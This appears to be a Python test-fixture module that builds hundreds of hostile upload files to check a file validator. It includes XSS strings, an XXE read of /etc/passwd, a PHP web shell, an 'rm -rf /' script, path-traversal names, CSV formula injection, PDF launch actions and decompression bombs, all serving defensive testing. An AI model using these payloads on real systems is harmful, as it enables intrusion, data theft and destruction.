"""Files that try to do harm, made from a list and from mutations of true files: several hundred."""

import struct
import zlib
from collections.abc import Iterator
from random import Random

from tests.projects.files.making import archive, document, pdf, photograph, picture, true_files

Attack = tuple[str, bytes]

SCRIPT = b"<script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body onload=alert(1)>" + SCRIPT
GIF_AND_SCRIPT = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
EXE = b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode." + bytes(64)
CONTENTS = {
    "svg": SVG,
    "html": HTML,
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "script": b"alert(1)//",
    "gif": GIF_AND_SCRIPT,
    "exe": EXE,
    "elf": b"\x7fELF\x02\x01\x01" + bytes(57),
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['x']); ?>",
    "zip": archive({"run.exe": EXE}),
    "nothing": b"",
    "space": b" \n",
    "nulls": bytes(4096),
    "noise": Random(4).randbytes(4096),
    "url": b"[InternetShortcut]\r\nURL=javascript:alert(1)\r\n",
    "mhtml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
    "postscript": b"%!PS-Adobe-3.0\n(run) run\n",
    "rtf": b"{\\rtf1{\\object\\objocx}}",
    "ole": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512),
    "tiff": b"II*\x00" + bytes(64),
    "ico": b"\x00\x00\x01\x00\x01\x00" + bytes(64),
    "flash": b"FWS\x0a" + bytes(64),
}
ENDINGS = ["png", "jpg", "webp", "pdf", "csv", "docx", "odt"]  # each of the contents above under each of these
FORBIDDEN = (
    "svg html htm xhtml xml gif bmp tiff ico exe dll js vbs bat sh php py jar docm xlsm xls doc zip rar 7z".split()
)

NAMES = [
    *("../../../../etc/passwd", "..\\..\\windows\\system32\\x.dll", "/etc/cron.d/x", "C:\\boot.ini"),
    *("a.png\x00.html", "in\u202egnp.exe", "a.png\u200b.html", "a.html ", "a.html.", "a.png.html", "a.html;.png.html"),
    *(
        "a.p\u006eg.svg",
        "\u2025/a.svg",
        "a%00.svg",
        "con",
        "aux.html",
        "nul.svg",
        "x" * 5000,
        "x" * 5000 + ".html",
        ".htaccess",
    ),
    *(
        "<script>alert(1)</script>",
        '" onmouseover="alert(1).svg',
        "'><img src=x onerror=alert(1)>.html",
        "{{ settings }}.js",
    ),
    *(
        "a\r\nContent-Type: text/html\r\n\r\n<script>.js",
        "a\nb.exe",
        "\ufeff.exe",
        "a.ｐｎｇ",
        "a.pnɡ",
        "a.PNG.ExE",
        "",
        ".",
    ),
]

FORMULAS = [
    *("=cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", '=HYPERLINK("https://example.org/"&A1)'),
    *(
        "-2+3+cmd|'/c calc'!A0",
        '=WEBSERVICE("https://example.org")',
        "\t=1+1",
        "  =DDE(1)",
        '"=1+1"',
        "'=1+1",
        "x,=A1",
        "x;@A()",
    ),
    *('=IMPORTXML("https://example.org")', "=\t1+1", "x\t=1+1", '",=1+1'),
]

ACTIVE_PDF = [
    *(b"<</S/JavaScript/JS(app.alert(1))>>", b"<</S/Launch/F(cmd.exe)>>", b"<</S/J#61vaScript>>", b"<</#4a#53(x)>>"),
    *(
        b"<</EmbeddedFiles 1 0 R>>",
        b"<</Type/EmbeddedFile>>",
        b"<</RichMedia 1 0 R>>",
        b"<</XFA 1 0 R>>",
        b"<</S/SubmitForm>>",
    ),
]


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG whose head says this size, whatever its rows hold."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def refused() -> list[Attack]:
    """Files that must not be taken, whatever their name promises."""
    return [
        *(
            (f"{what}.{ending}", content)
            for what, content in CONTENTS.items()
            for ending in ENDINGS
            if not _text(what, ending)
        ),
        *((f"a.{ending}", content) for ending in FORBIDDEN for content in (picture(), SVG)),
        *((name, content) for name in NAMES for content in (picture(), HTML)),
        *((f"formula{number}.csv", f"item\n{cell}\n".encode()) for number, cell in enumerate(FORMULAS)),
        *((f"active{number}.pdf", pdf(body)) for number, body in enumerate(ACTIVE_PDF)),
        *_bombs(),
        *_documents(),
        *_swapped(),
        *(
            (f"cut{part}.{name[2:]}", content[: len(content) * part // 8])
            for name, content in _binary()
            for part in range(6)
        ),
    ]


def _text(what: str, ending: str) -> bool:
    """Plain words are a table of one cell: nothing runs them there."""
    return ending == "csv" and what in {"script", "space"}


def _binary() -> list[Attack]:
    return [
        (name, content) for name, content in true_files().items() if name.rpartition(".")[2] not in {"csv", "txt", "md"}
    ]


def _bombs() -> Iterator[Attack]:
    for side in (7000, 30_000, 65_535, 2**31 - 1):
        yield f"wide{side}.png", png_of(side, side)
    yield "none.png", png_of(0, 0)
    yield "flat.png", png_of(10_000, 4_001, bytes(64))
    yield "bomb.docx", document("docx", {f"word/{number}.xml": bytes(60_000_000) for number in range(2)})
    yield "bomb.xlsx", document("xlsx", {f"xl/{number}.xml": b"x" for number in range(3001)})
    yield "bomb.odt", document("odt", {"big.xml": bytes(100_000_001)})


def _documents() -> Iterator[Attack]:
    for ending in ("docx", "xlsx", "pptx", "odt", "ods", "odp"):
        for part in (
            "word/vbaProject.bin",
            "xl/vbaProject.bin",
            "Basic/x.xml",
            "Scripts/x.py",
            "activeX/x.xml",
            "customUI/x.xml",
        ):
            yield f"macro.{ending}", document(ending, {part: b"x"})
        for part in (
            "../x.xml",
            "/x.xml",
            "a/../../x.xml",
            "a\\b.xml",
            "C:x.xml",
            "a/x.exe",
            "a/x.js",
            "a/x.html",
            "x.zip",
        ):
            yield f"part.{ending}", document(ending, {part: b"x"})
        yield f"entity.{ending}", document(ending, {"a.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})
        yield (
            f"fetch.{ending}",
            document(ending, {"a.rels": b'<Relationship Target="https://example.org/x" TargetMode="External"/>'}),
        )
        yield f"comment.{ending}", document(ending, comment=HTML)
        yield f"before.{ending}", HTML + document(ending)


def _swapped() -> Iterator[Attack]:
    """Each true file under the name of every other kind."""
    same = [{"jpg", "jpeg"}, {"csv", "txt", "md"}]
    for name, content in true_files().items():
        kind = name.rpartition(".")[2]
        for other in true_files():
            ending = other.rpartition(".")[2]
            if ending != kind and {kind, ending} not in same and not {kind, ending} <= same[1]:
                yield f"swapped-{kind}.{ending}", content


def mutated() -> list[Attack]:
    """True files with something added, or a piece of them changed: taken or not, they may do no harm."""
    rng = Random(2026)  # the same ones at each run
    return [
        *(
            (f"after-{name}", content + extra)
            for name, content in _binary()
            for extra in (SCRIPT, HTML, archive({"x": b"y"}))
        ),
        *((f"bent{number}-{name}", _bent(content, rng)) for name, content in _binary() for number in range(12)),
        ("place.jpg", photograph()),
        ("words.png", picture(mode="RGB") + SVG),
    ]


def _bent(content: bytes, rng: Random) -> bytes:
    changed = bytearray(content)
    for _ in range(rng.randrange(1, 6)):
        changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)
